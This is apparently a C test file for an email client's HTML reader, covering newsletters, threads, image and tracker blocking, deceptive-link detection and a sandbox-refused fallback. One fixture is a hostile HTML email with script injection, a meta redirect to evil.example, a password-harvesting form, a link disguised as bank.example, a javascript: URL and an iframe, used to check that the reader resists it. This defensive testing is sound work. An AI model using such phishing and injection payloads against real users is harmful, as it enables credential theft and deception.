/* SPDX-License-Identifier: GPL-3.0-or-later */

/* HTML mail in the reader. With --refused there is no sandbox for it. */

#include "imap-response.h"
#include "ph-body.h"
#include "ph-conversation-page.h"
#include "ph-page-html.h"
#include "ph-reader.h"
#include "ph-senders-group.h"
#include "ph-settings.h"
#include "ph-text-view.h"
#include "ph-ui.h"
#include "sandbox-needed.h"
#include "ui-input.h"
#include "ui-picture.h"
#include "ui-test.h"

#include <adwaita.h>
#include <glib/gstdio.h>

typedef struct
{
  PhReader *reader;
  PhConversationPage *html;
  GtkWindow *window;
  guint n_shown;
  guint n_seen;
} Fixture;

static void
count_cb (guint *count)
{
  (*count)++;
}

static void
set_up (Fixture *fixture, gconstpointer data)
{
  fixture->reader = PH_READER (ph_reader_new ());
  fixture->html = ui_test_find (GTK_WIDGET (fixture->reader), PH_TYPE_CONVERSATION_PAGE, NULL);
  g_signal_connect_swapped (fixture->html, "shown", G_CALLBACK (count_cb), &fixture->n_shown);
  g_signal_connect_swapped (fixture->reader, "seen", G_CALLBACK (count_cb), &fixture->n_seen);
  fixture->window = ui_test_show (GTK_WIDGET (fixture->reader), 760, 800);
}

static void
tear_down (Fixture *fixture, gconstpointer data)
{
  g_settings_reset (ph_settings_get (), "image-senders");
  g_settings_reset (ph_settings_get (), "formatting-of-senders");
  gtk_window_destroy (fixture->window);
  ui_test_settle ();
}

static void
fill_from (Fixture *fixture, const char *sender, const char *subject, const char *raw)
{
  StoreRow *row = g_new0 (StoreRow, 1);
  g_autoptr (GBytes) bytes = g_bytes_new (raw, strlen (raw));
  g_autoptr (PhMessage) message = NULL;

  row->id = row->message_id = 1;
  row->subject = g_strdup (subject);
  row->from_name = g_strdup ("Orchard & Press");
  row->from_address = g_strdup (sender);
  row->to_short = g_strdup ("");
  row->preview = g_strdup ("");
  row->date = 1771855500;
  message = ph_message_new_for_row (1, row, FALSE);
  ph_reader_set_message (fixture->reader, message);
  ph_reader_show_body (fixture->reader, ph_body_new_for_message (bytes));
}

static void
fill (Fixture *fixture, const char *subject, const char *raw)
{
  fill_from (fixture, "News@Orchard.example", subject, raw);
}

static gboolean
is_shown (gpointer user_data)
{
  return ((Fixture *) user_data)->n_shown > 0;
}

static gboolean
was_seen (gpointer user_data)
{
  return ((Fixture *) user_data)->n_seen > 0;
}

static void
await_shown (Fixture *fixture)
{
  fixture->n_shown = 0;
  ui_test_wait (is_shown, fixture);
}

/* What the web process paints comes when it comes. */
static void
shoot (Fixture *fixture, const char *name)
{
  ui_test_shoot_at_rest (fixture->window, name);
}

static const char *
get_page (Fixture *fixture)
{
  return gtk_stack_get_visible_child_name (
    ui_test_find (GTK_WIDGET (fixture->reader), GTK_TYPE_STACK, "ways"));
}

static PhConversationItem *
get_message (Fixture *fixture)
{
  return ph_conversation_get_opened (ph_reader_get_conversation (fixture->reader));
}

/* What is said of the images that are not shown; NULL when nothing is. (transfer full) */
static PhNotice *
get_images_notice (Fixture *fixture)
{
  GListModel *notices = ph_conversation_item_get_notices (get_message (fixture));

  for (guint i = 0; i < g_list_model_get_n_items (notices); i++)
    {
      g_autoptr (PhNotice) notice = g_list_model_get_item (notices, i);

      if (g_str_equal (ph_notice_get_id (notice), "images"))
        return g_steal_pointer (&notice);
    }

  return NULL;
}

static gboolean
has_bar (Fixture *fixture)
{
  g_autoptr (PhNotice) notice = get_images_notice (fixture);

  return notice != NULL;
}

/* As a button of the notice. */
static void
show_images (Fixture *fixture, const char *always_for)
{
  g_action_group_activate_action (
    G_ACTION_GROUP (ph_conversation_item_get_actions (get_message (fixture))),
    always_for != NULL ? "always-show-images" : "show-images",
    always_for != NULL ? g_variant_new_string (always_for) : NULL);
}

static const char newsletter[]
  = "Content-Type: multipart/alternative; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: text/plain\r\n\r\nThe spring letter, plain.\r\n"
    "--b\r\nContent-Type: multipart/related; boundary=r\r\n\r\n"
    "--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    "<html><head><style>h1 { color: #26a269; font-family: serif } .b { background: #26a269; color: "
    "white; padding: 10px 18px; border-radius: 6px; text-decoration: none; display: inline-block }"
    "</style></head><body bgcolor='#f6f5f4'><table width='100%' bgcolor='#f6f5f4'><tr><td align=center>"
    "<table width=560 bgcolor=white cellpadding=24 style='max-width:100%'><tr><td>"
    "<img src='cid:logo@orchard' width=48 height=48 alt='Orchard'>"
    "<h1>The spring letter</h1><p>Dear friends, the <b>ladders</b> are in the barn, and the first trees "
    "are in bloom. Grüße aus dem Obstgarten! This is what the year holds:</p>"
    "<ul><li>Pruning, until the end of March</li><li>Grafting with Jonas</li><li>The great harvest</li></ul>"
    "<p><img src='https://images.orchard.example/trees.jpg' width=500 height=120 alt='Trees in bloom'></p>"
    "<p><a class=b href='https://orchard.example/plan'>See the plan</a></p>"
    "<p style='color:#777;font-size:12px'>You get this letter because you asked for it. "
    "<a href='https://tracker.example/x'>www.orchard.example</a></p>"
    "<img src='https://count.orchard.example/open.gif' width=1 height=1>"
    "</td></tr></table></td></tr></table></body></html>\r\n"
    "--r\r\nContent-Type: image/png\r\nContent-ID: <logo@orchard>\r\nContent-Transfer-Encoding: base64\r\n"
    "\r\niVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR4nGNQW5SJFTEMLQkAurtMQddCzdYAAAAASUVORK5CYII=\r\n"
    "--r--\r\n--b--\r\n";

static const char attack[]
  = "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    "<script>document.body.innerHTML = 'taken over'</script><meta http-equiv=refresh content='0;url="
    "https://evil.example/'><link rel=stylesheet href='https://evil.example/a.css'>"
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/b)'>"
    "<h2>Your account is closed</h2><form action='https://evil.example/'><input name=password>"
    "<button>Sign in</button></form><p onclick='x()'>Click "
    "<a href='https://evil.example/login'>https://bank.example/</a>, "
    "<a href='javascript:alert(1)'>here</a> or <iframe src='https://evil.example/'></iframe></p></div>"
    "<!-- \r\n"
    "--b\r\nContent-Type: text/plain\r\n\r\n--> A footer of the list, see https://list.example/ <b>&\r\n--b--\r\n";

static void
test_newsletter (Fixture *fixture, gconstpointer data)
{
  g_object_set (fixture->reader, "mark-read-delay", 20, NULL);
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");
  g_assert_true (has_bar (fixture));
  ui_test_wait (was_seen, fixture);
  shoot (fixture, "html-newsletter");

  gtk_window_set_default_size (fixture->window, 360, 760);
  shoot (fixture, "html-newsletter-narrow");
}

/* ---- Conversations ---------------------------------------------------------------------------- */

static PhMessage *
create_message (guint number, guint flags)
{
  static const char *const people[] = { "Marta Lindqvist", "Jonas Weber", "Ana Sousa" };
  StoreRow *row = g_new0 (StoreRow, 1);

  row->id = row->message_id = number + 1;
  row->subject = g_strdup ("Harvest plan for the old orchard");
  row->from_name = g_strdup (people[number % 3]);
  row->from_address = g_strdup_printf ("person%u@orchard.example", number % 3);
  row->to_short = g_strdup ("");
  row->preview = g_strdup_printf ("Message %u: <b>the ladders</b> are in the barn.", number + 1);
  row->date = 1771855500 + number * 3600;
  row->flags = flags;

  return ph_message_new_for_row (number + 1, row, FALSE);
}

static PhConversationItem *
get_item (Fixture *fixture, guint position)
{
  return ph_conversation_get (ph_reader_get_conversation (fixture->reader), position);
}

static void
take_body (Fixture *fixture, guint position, const char *raw)
{
  g_autoptr (GBytes) bytes = g_bytes_new (raw, strlen (raw));

  ph_conversation_item_take_body (get_item (fixture, position), ph_body_new_for_message (bytes));
}

/* The last @n_unread of @n messages are unread. */
static void
show_thread (Fixture *fixture, guint n, guint n_unread)
{
  g_autoptr (GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr (PhThread) thread = NULL;

  for (guint i = 0; i < n; i++)
    g_ptr_array_add (messages, create_message (i, i + n_unread < n ? IMAP_FLAG_SEEN : 0));
  thread = ph_thread_new_fixed (messages, messages->pdata[n - 1]);
  ph_reader_show_thread (fixture->reader, thread);
}

static const char short_html[]
  = "Content-Type: text/html\r\n\r\n<p>In the <b style='color:#26a269'>barn</b>: ladders. "
    "<a href='https://orchard.example/'>The plan</a>";

static const char short_text[]
  = "Content-Type: text/plain\r\n\r\nI bring bread, see https://orchard.example/bread.\r\n\r\n"
    "On Monday Jonas wrote:\r\n> When do we begin?\r\n>\r\n> And who brings bread?\r\n>\r\n"
    "> I can bring apples.\r\n>\r\n> And cider.\r\n>\r\n> And a cart.\r\n";

static gboolean
is_in_view (gpointer item)
{
  return ph_conversation_item_get_in_view (item) && ph_conversation_item_get_expanded (item);
}

static gboolean
is_out_of_view (gpointer item)
{
  return !ph_conversation_item_get_in_view (item);
}

static gboolean
is_expanded (gpointer item)
{
  return ph_conversation_item_get_expanded (item);
}

static gboolean
is_wanted (gpointer item)
{
  return ph_conversation_item_get_state (item) == PH_BODY_STATE_LOADING;
}

/* All of a conversation is one page when one message of it is HTML; a click on a line of it opens the
 * message, which is then loaded and shown beside the others. */
static void
test_thread (Fixture *fixture, gconstpointer data)
{
  GtkWidget *page = GTK_WIDGET (fixture->html);
  UiPlace place;

  show_thread (fixture, 5, 3);
  take_body (fixture, 3, short_text);
  take_body (fixture, 4, short_html);
  take_body (fixture, 2, short_html);
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");
  ui_test_wait (is_in_view, get_item (fixture, 2));
  ui_test_wait (is_in_view, get_item (fixture, 4));
  shoot (fixture, "html-thread");

  g_assert_false (is_expanded (get_item (fixture, 0)));
  place = ui_input_find_place (page);
  place.y += 68 - gtk_widget_get_height (page) / 2;
  ui_input_click (place, NULL);
  ui_test_wait (is_expanded, get_item (fixture, 0));
  ui_test_wait (is_wanted, get_item (fixture, 0));
  take_body (fixture, 0, short_html);
  shoot (fixture, "html-thread-opened");
}

static const char pictures[]
  = "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: text/html\r\n\r\n<p>We have <b>arrived</b>.\r\n"
    "--b\r\nContent-Type: image/jpeg\r\nContent-Disposition: attachment; filename=\"sea.jpg\"\r\n\r\nx\r\n"
    "--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"way.pdf\"\r\n\r\nx\r\n"
    "--b--\r\n";

/* A picture that is here is shown small, as soon as it was made. */
static void
test_thumbnails (Fixture *fixture, gconstpointer data)
{
  PhConversationItem *item;
  GPtrArray *attachments;
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;

  fill (fixture, "We have arrived", pictures);
  await_shown (fixture);
  item = ph_conversation_get_opened (ph_reader_get_conversation (fixture->reader));
  attachments = ph_conversation_item_get_attachments (item);
  before = ph_page_html_write_item (item, FALSE);
  ui_picture_attach (g_ptr_array_index (attachments, 0), "jpeg", 640, 480);
  after = ph_page_html_write_item (item, FALSE);
  g_assert_null (strstr (before, "class=\"thumbnail\""));
  g_assert_nonnull (strstr (after, "class=\"thumbnail\" alt=\"\" src=\"data:image/png;base64,iVBORw0KGgo"));
  shoot (fixture, "html-thumbnails");
}

/* Of forty, the middle is folded; reading begins at the first unread one, and keys lead on. */
static void
test_long_thread (Fixture *fixture, gconstpointer data)
{
  g_autoptr (GString) raw = g_string_new ("Content-Type: text/html\r\n\r\n");

  for (guint i = 0; i < 60; i++)
    g_string_append (raw, "<p>A line of the long letter.</p>");
  show_thread (fixture, 40, 3);
  take_body (fixture, 37, raw->str);
  await_shown (fixture);
  ui_test_wait (is_in_view, get_item (fixture, 37));
  ui_test_wait (is_out_of_view, get_item (fixture, 39));
  shoot (fixture, "html-thread-40");

  g_assert_true (ph_reader_go (fixture->reader, TRUE));
  ui_test_wait (is_in_view, get_item (fixture, 38));
  ui_test_wait (is_wanted, get_item (fixture, 38));
  take_body (fixture, 38, raw->str);
  g_assert_true (ph_reader_go (fixture->reader, FALSE));
  ui_test_wait (is_in_view, get_item (fixture, 37));
}

static gboolean
says_two_matches (gpointer user_data)
{
  GtkLabel *count
    = ui_test_find (GTK_WIDGET (((Fixture *) user_data)->reader), GTK_TYPE_LABEL, "count");

  return g_str_equal (gtk_label_get_label (count), "2 matches");
}

/* All messages of the page are searched. */
static void
test_find (Fixture *fixture, gconstpointer data)
{
  show_thread (fixture, 3, 2);
  take_body (fixture, 2, short_html);
  take_body (fixture, 1, short_html);
  await_shown (fixture);
  g_assert_true (ph_reader_find (fixture->reader));
  gtk_editable_set_text (ui_test_find (GTK_WIDGET (fixture->reader), GTK_TYPE_SEARCH_ENTRY, "entry"),
                         "the PLAN");
  ui_test_wait (says_two_matches, fixture);
  shoot (fixture, "html-find");
}

/* From right to left, and dark. */
static void
test_right_to_left (Fixture *fixture, gconstpointer data)
{
  AdwStyleManager *style = adw_style_manager_get_default ();

  gtk_widget_set_direction (GTK_WIDGET (fixture->html), GTK_TEXT_DIR_RTL);
  adw_style_manager_set_color_scheme (style, ADW_COLOR_SCHEME_FORCE_DARK);
  show_thread (fixture, 5, 3);
  take_body (fixture, 3, short_text);
  take_body (fixture, 4, short_html);
  take_body (fixture, 2, "Content-Type: text/html; charset=utf-8\r\n\r\n<p dir=rtl>\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d");
  await_shown (fixture);
  shoot (fixture, "html-thread-rtl-dark");
  adw_style_manager_set_color_scheme (style, ADW_COLOR_SCHEME_DEFAULT);
}

static void
test_attack (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "Important!", attack);
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");
  shoot (fixture, "html-attack");
}

/* What is shown stays so in the dark, and the mail's own colours come back when they are wanted. */
static void
test_dark (Fixture *fixture, gconstpointer data)
{
  AdwStyleManager *style = adw_style_manager_get_default ();

  adw_style_manager_set_color_scheme (style, ADW_COLOR_SCHEME_FORCE_DARK);
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  shoot (fixture, "html-newsletter-dark");
  g_object_set (fixture->reader, "original-colors", TRUE, NULL);
  await_shown (fixture);
  shoot (fixture, "html-newsletter-original");
  adw_style_manager_set_color_scheme (style, ADW_COLOR_SCHEME_DEFAULT);
}

static void
test_switch (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_object_set (fixture->reader, "formatted", FALSE, NULL);
  g_assert_cmpstr (get_page (fixture), ==, "text");
  g_assert_false (has_bar (fixture));
  g_object_set (fixture->reader, "formatted", TRUE, NULL);
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");

  fill (fixture, "Plain", "Content-Type: text/plain\r\n\r\nHello\r\n");
  g_assert_cmpstr (get_page (fixture), ==, "text");
}

static void
switch_sender (PhConversationItem *item)
{
  g_action_group_activate_action (
    G_ACTION_GROUP (ph_conversation_item_get_actions (item)), "formatted", NULL);
}

static guint
count_exceptions (void)
{
  g_autoptr (GVariant) senders
    = g_settings_get_value (ph_settings_get (), "formatting-of-senders");

  return (guint) g_variant_n_children (senders);
}

/* One sender's mail is read as plain text, until it is wanted as all other mail again. */
static void
test_switch_sender (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  switch_sender (get_message (fixture));
  g_assert_cmpstr (get_page (fixture), ==, "text");

  fill_from (fixture, "ana@sea.example", "The spring letter", newsletter);
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");
  fill_from (fixture, "news@orchard.EXAMPLE", "The autumn letter", newsletter);
  g_assert_cmpstr (get_page (fixture), ==, "text");

  switch_sender (get_message (fixture));
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");
  g_assert_cmpuint (count_exceptions (), ==, 0);

  /* Or the other way round. */
  g_object_set (fixture->reader, "formatted", FALSE, NULL);
  switch_sender (get_message (fixture));
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");
  fill_from (fixture, "ana@sea.example", "The spring letter", newsletter);
  g_assert_cmpstr (get_page (fixture), ==, "text");
}

/* In a conversation it is of their messages alone, and what has no formatting does not offer it. */
static void
test_switch_sender_in_thread (Fixture *fixture, gconstpointer data)
{
  GActionGroup *actions;

  show_thread (fixture, 5, 3);
  take_body (fixture, 2, short_html);
  take_body (fixture, 3, short_text);
  take_body (fixture, 4, short_html);
  await_shown (fixture);
  actions = G_ACTION_GROUP (ph_conversation_item_get_actions (get_item (fixture, 3)));
  g_assert_false (g_action_group_get_action_enabled (actions, "formatted"));

  switch_sender (get_item (fixture, 4));
  g_assert_false (ph_conversation_item_get_formatted (get_item (fixture, 4)));
  g_assert_true (ph_conversation_item_get_formatted (get_item (fixture, 2)));
  g_assert_cmpstr (get_page (fixture), ==, "html");
  shoot (fixture, "html-thread-sender");
  switch_sender (get_item (fixture, 2));
  g_assert_cmpstr (get_page (fixture), ==, "text");
}

static gboolean
has_offer (Fixture *fixture)
{
  g_autoptr (PhNotice) notice = get_images_notice (fixture);

  return notice != NULL && ph_notice_get_n_buttons (notice) > 0;
}

static void
test_images (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  show_images (fixture, NULL);
  g_assert_false (has_offer (fixture));

  /* It was for that message alone. */
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_assert_true (has_bar (fixture));

  show_images (fixture, "news@orchard.example");
  g_assert_true (ph_settings_list_contains (ph_settings_get (), "image-senders",
                                            "news@orchard.example"));
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_assert_false (has_bar (fixture));

  ph_settings_list_set (ph_settings_get (), "image-senders", "news@orchard.example", FALSE);
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_assert_true (has_bar (fixture));
}

/* All of a domain, and what is below it. */
static void
test_domain (Fixture *fixture, gconstpointer data)
{
  static const char mail[]
    = "Content-Type: text/html\r\n\r\n<img src='https://images.example/a.png'>";

  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  show_images (fixture, "@orchard.example");
  fill_from (fixture, "Else@shop.Orchard.example", "Shop", mail);
  await_shown (fixture);
  g_assert_false (has_bar (fixture));
  fill_from (fixture, "news@myorchard.example", "Not ours", mail);
  await_shown (fixture);
  g_assert_true (has_bar (fixture));
}

static void
assert_images_text (Fixture *fixture, const char *text)
{
  g_autoptr (PhNotice) notice = get_images_notice (fixture);

  g_assert_nonnull (notice);
  g_assert_cmpstr (ph_notice_get_text (notice), ==, text);
}

static gboolean
offers_nothing (gpointer fixture)
{
  return has_bar (fixture) && !has_offer (fixture);
}

/* What only counts is counted, and stays away when the others are shown. */
static void
test_trackers (Fixture *fixture, gconstpointer data)
{
  const char *blocked = "1 image from the internet is not shown. ";
  const char *trackers
    = "2 images that only tell the sender of your reading are never fetched.";
  g_autofree char *both = g_strconcat (blocked, trackers, NULL);

  fill (fixture, "Counted",
        "Content-Type: text/html\r\n\r\n<img src='https://images.example/a.png' width=200>"
        "<img src='https://images.example/b.png' width=1 height=1>"
        "<img src='https://www.google-analytics.com/collect?a=1' width=200>");
  await_shown (fixture);
  assert_images_text (fixture, both);

  show_images (fixture, NULL);
  ui_test_wait (offers_nothing, fixture);
  assert_images_text (fixture, trackers);
}

/* The button names the sender, whatever the address is made of. */
static void
test_sender_in_menu (Fixture *fixture, gconstpointer data)
{
  g_autoptr (PhNotice) notice = NULL;

  fill_from (fixture, "Spring_Letter@Orchard.example", "Letter",
             "Content-Type: text/html\r\n\r\n<img src='https://images.example/a.png'>");
  await_shown (fixture);
  notice = get_images_notice (fixture);
  g_assert_cmpstr (ph_notice_get_label (notice, 1), ==,
                   "Always for spring__letter@orchard.example");
}

static gboolean
has_text (GtkWidget *widget, gpointer text)
{
  return GTK_IS_LABEL (widget) && g_str_equal (gtk_label_get_text (GTK_LABEL (widget)), text);
}

static gboolean
is_revoke_button (GtkWidget *widget, gpointer data)
{
  return GTK_IS_BUTTON (widget);
}

/* Who may show images can be taken off again. */
static void
test_senders (void)
{
  const char *const senders[] = { "@sea.example", "news@orchard.example", NULL };
  GtkWidget *group;
  GtkWindow *window;
  g_auto (GStrv) left = NULL;

  g_settings_set_strv (ph_settings_get (), "image-senders", senders);
  group = g_object_new (PH_TYPE_SENDERS_GROUP, "margin-start", 18, "margin-end", 18, NULL);
  window = ui_test_show (group, 500, 300);
  ui_test_shoot (window, "image-senders");
  g_assert_nonnull (ui_input_find (group, has_text, (gpointer) "Everybody at sea.example"));
  g_signal_emit_by_name (ui_input_find (group, is_revoke_button, NULL), "clicked");
  left = g_settings_get_strv (ph_settings_get (), "image-senders");
  g_assert_cmpuint (g_strv_length (left), ==, 1);
  g_assert_cmpstr (left[0], ==, "news@orchard.example");
  g_signal_emit_by_name (ui_input_find (group, is_revoke_button, NULL), "clicked");
  g_assert_null (ui_input_find (group, is_revoke_button, NULL));
  gtk_window_destroy (window);
}

static gboolean
has_focus (gpointer user_data)
{
  return ph_conversation_page_has_focus (((Fixture *) user_data)->html);
}

static gboolean
has_left (gpointer user_data)
{
  return !has_focus (user_data);
}

static void
next_unread_cb (GSimpleAction *action, GVariant *parameter, gpointer user_data)
{
  (*(guint *) user_data)++;
}

static gboolean
is_counted (gpointer user_data)
{
  return *(guint *) user_data > 0;
}

typedef struct
{
  char *uri;
  gboolean deceptive;
} Activated;

static void
activated_cb (Activated *activated, const char *uri, gboolean deceptive)
{
  activated->uri = g_strdup (uri);
  activated->deceptive = deceptive;
}

static gboolean
is_activated (gpointer user_data)
{
  return ((Activated *) user_data)->uri != NULL;
}

static gboolean
hovers (gpointer user_data)
{
  return ph_conversation_page_get_hovered_link (user_data) != NULL;
}

static void
test_link (Fixture *fixture, const char *html, const char *uri, gboolean deceptive)
{
  g_autofree char *raw = g_strdup_printf ("Content-Type: text/html\r\n\r\n%s", html);
  Activated activated = { NULL };
  gulong handler;
  UiPlace place;

  fill (fixture, "Links", raw);
  await_shown (fixture);
  /* The reader's own answer needs a desktop. */
  g_signal_handlers_block_matched (fixture->html, G_SIGNAL_MATCH_DATA, 0, 0, NULL, NULL,
                                   fixture->reader);
  handler = g_signal_connect_swapped (fixture->html, "activate-link", G_CALLBACK (activated_cb),
                                      &activated);
  place = ui_input_find_place (GTK_WIDGET (fixture->html));
  ui_input_run ("mousemove %d %d", place.x, place.y - 20);
  ui_input_run ("mousemove %d %d", place.x, place.y);
  ui_test_wait (hovers, fixture->html);
  g_assert_cmpstr (ph_conversation_page_get_hovered_link (fixture->html), ==, uri);
  g_assert_null (activated.uri);
  ui_input_click (place, NULL);
  ui_test_wait (is_activated, &activated);
  g_assert_cmpstr (activated.uri, ==, uri);
  g_assert_cmpint (activated.deceptive, ==, deceptive);
  g_signal_handler_disconnect (fixture->html, handler);
  g_free (activated.uri);
}

#define LINK(attributes, text) \
  "<a " attributes " style='display:block;height:2000px'>" text "</a>"

/* Where a link leads is told before, and it is opened by a click alone; a link that says that it is
 * another is known, however it is written. */
static void
test_links (Fixture *fixture, gconstpointer data)
{
  test_link (fixture, LINK ("href='https://orchard.example'", "the plan"),
             "https://orchard.example/", FALSE);
  test_link (fixture, LINK ("href='HTTPS://Evil.example:443/a b?%c3%bc=ü'", "https://bank.example/"),
             "https://evil.example/a%20b?%c3%bc=%C3%BC", TRUE);
}

static gboolean
key_cb (guint *count, guint keyval)
{
  *count += keyval == GDK_KEY_n;
  return GDK_EVENT_PROPAGATE;
}

/* Space leads through the message and then on; the keys of the window work; Tab leads out of it. */
static void
test_keys (Fixture *fixture, gconstpointer data)
{
  guint n_next = 0, n_keys = 0;
  GtkEventController *keys = gtk_event_controller_key_new ();
  const GActionEntry entry = { "next-unread", next_unread_cb };
  g_autoptr (GSimpleActionGroup) actions = g_simple_action_group_new ();
  g_autoptr (GString) raw = g_string_new ("Content-Type: text/html\r\n\r\n<a href=http://a.example>a</a>");

  for (guint i = 0; i < 60; i++)
    g_string_append (raw, "<p>A line of the long letter.</p>");
  g_action_map_add_action_entries (G_ACTION_MAP (actions), &entry, 1, &n_next);
  gtk_widget_insert_action_group (GTK_WIDGET (fixture->window), "win", G_ACTION_GROUP (actions));
  fill (fixture, "Long", raw->str);
  await_shown (fixture);
  ui_input_focus (fixture->window);
  ph_reader_focus (fixture->reader);
  ui_test_wait (has_focus, fixture);

  for (guint i = 0; i < 50 && n_next == 0; i++)
    {
      ui_input_press ("space");
      ui_test_settle ();
      if (i == 0)
        g_assert_cmpuint (n_next, ==, 0);
    }
  ui_test_wait (is_counted, &n_next);

  g_signal_connect_swapped (keys, "key-pressed", G_CALLBACK (key_cb), &n_keys);
  gtk_widget_add_controller (GTK_WIDGET (fixture->window), keys);
  ui_input_press ("n");
  ui_test_wait (is_counted, &n_keys);
  gtk_widget_remove_controller (GTK_WIDGET (fixture->window), keys);

  /* The message, its link, and out. */
  for (guint i = 0; i < 3; i++)
    ui_input_press ("Tab");
  ui_test_wait (has_left, fixture);
}

static gboolean
is_loaded (void)
{
  g_autofree char *maps = NULL;

  g_assert_true (g_file_get_contents ("/proc/self/maps", &maps, NULL, NULL));
  return strstr (maps, "libwebkitgtk") != NULL;
}

/* The first of all: nobody who reads text pays for WebKit. */
static void
test_text_alone (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "Plain", "Content-Type: text/plain\r\n\r\nHello\r\n");
  ui_test_settle ();
  g_assert_false (is_loaded ());
}

static gboolean
reads_text (gpointer user_data)
{
  return g_strcmp0 (get_page (user_data), "text") == 0;
}

static gboolean
says_why (GtkWidget *widget, gpointer data)
{
  return GTK_IS_LABEL (widget) && gtk_widget_is_visible (widget)
         && strstr (gtk_label_get_label (GTK_LABEL (widget)), "Creating new namespace failed");
}

/* Reads in plain text, and says why. */
static void
test_refused (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "The spring letter", newsletter);
  ui_test_wait (reads_text, fixture);
  g_assert_nonnull (ui_input_find (GTK_WIDGET (fixture->reader), says_why, NULL));
  g_assert_false (is_loaded ());
  shoot (fixture, "html-refused");

  fill (fixture, "Plain", "Content-Type: text/plain\r\n\r\nHello\r\n");
  ui_test_wait (reads_text, fixture);
  g_assert_null (ui_input_find (GTK_WIDGET (fixture->reader), says_why, NULL));
}

/* As where user namespaces are forbidden. */
static void
refuse_sandbox (void)
{
  g_autofree char *folder = g_dir_make_tmp ("refused-XXXXXX", NULL);
  g_autofree char *program = g_build_filename (folder, "bwrap", NULL);
  g_autofree char *path = g_strdup_printf ("%s:%s", folder, g_getenv ("PATH"));

  g_assert_true (g_file_set_contents (
    program, "#!/bin/sh\necho 'bwrap: Creating new namespace failed' >&2\nexit 1\n", -1, NULL));
  g_assert_cmpint (g_chmod (program, 0700), ==, 0);
  g_setenv ("PATH", path, TRUE);
}

static void
add (const char *path, void (*func) (Fixture *, gconstpointer))
{
  g_test_add (path, Fixture, NULL, set_up, func, tear_down);
}

typedef struct
{
  char *text;
  char *html;
  guint n;
} Answered;

static void
answer_cb (Answered *answered, PhMessage *message, guint mode, const char *text, const char *html)
{
  g_free (answered->text);
  g_free (answered->html);
  answered->text = g_strdup (text);
  answered->html = g_strdup (html);
  answered->n++;
}

static gboolean
is_answered (gpointer answered)
{
  return ((Answered *) answered)->n > 0;
}

static void
answer (Fixture *fixture, Answered *answered)
{
  answered->n = 0;
  g_assert_true (ph_reader_answer (fixture->reader, COMPOSE_REPLY));
  ui_test_wait (is_answered, answered);
}

typedef struct
{
  Fixture *fixture;
  Answered *answered;
} Selecting;

/* The web process hears of the clicks when it does. */
static gboolean
is_selected (gpointer user_data)
{
  Selecting *selecting = user_data;

  answer (selecting->fixture, selecting->answered);
  return selecting->answered->text != NULL;
}

/* The word that was selected is what is answered, with how it looks; without one it is all. */
static void
test_selection (Fixture *fixture, gconstpointer data)
{
  static const char raw[]
    = "Content-Type: text/html\r\n\r\n"
      "<p style=\"text-align: center; font-size: 200px; line-height: 600px\"><b>Ha</b>y more words</p>";
  Answered answered = { 0 };
  Selecting selecting = { fixture, &answered };
  UiPlace place;

  g_signal_connect_swapped (fixture->reader, "answer", G_CALLBACK (answer_cb), &answered);
  fill (fixture, "Harvest", raw);
  await_shown (fixture);
  answer (fixture, &answered);
  g_assert_null (answered.text);
  g_assert_null (answered.html);

  ui_input_focus (fixture->window);
  place = ui_input_find_place (GTK_WIDGET (fixture->html));
  ui_input_click (place, NULL);
  ui_input_click (place, NULL);
  ui_test_wait (is_selected, &selecting);
  g_assert_cmpstr (g_strstrip (answered.text), ==, "Hay");
  g_assert_nonnull (strstr (answered.html, "<b>Ha</b>y"));
  g_assert_null (strstr (answered.html, "more"));
  g_free (answered.text);
  g_free (answered.html);
}

int
main (int argc, char *argv[])
{
  gboolean refused = argc > 1 && g_str_equal (argv[1], "--refused");

  if (refused)
    refuse_sandbox ();
  gtk_test_init (&argc, &argv, NULL);
  /* WebKit warns that there is no graphics card. */
  g_log_set_always_fatal (G_LOG_FATAL_MASK | G_LOG_LEVEL_CRITICAL);
  ph_ui_init ();

  if (refused)
    {
      add ("/html-reader/refused", test_refused);
      return g_test_run ();
    }

  sandbox_needed ();
  add ("/html-reader/text-alone", test_text_alone);
  add ("/html-reader/newsletter", test_newsletter);
  add ("/html-reader/thread", test_thread);
  add ("/html-reader/thumbnails", test_thumbnails);
  add ("/html-reader/long-thread", test_long_thread);
  add ("/html-reader/find", test_find);
  add ("/html-reader/right-to-left", test_right_to_left);
  add ("/html-reader/attack", test_attack);
  add ("/html-reader/dark", test_dark);
  add ("/html-reader/switch", test_switch);
  add ("/html-reader/switch-sender", test_switch_sender);
  add ("/html-reader/switch-sender-in-thread", test_switch_sender_in_thread);
  add ("/html-reader/images", test_images);
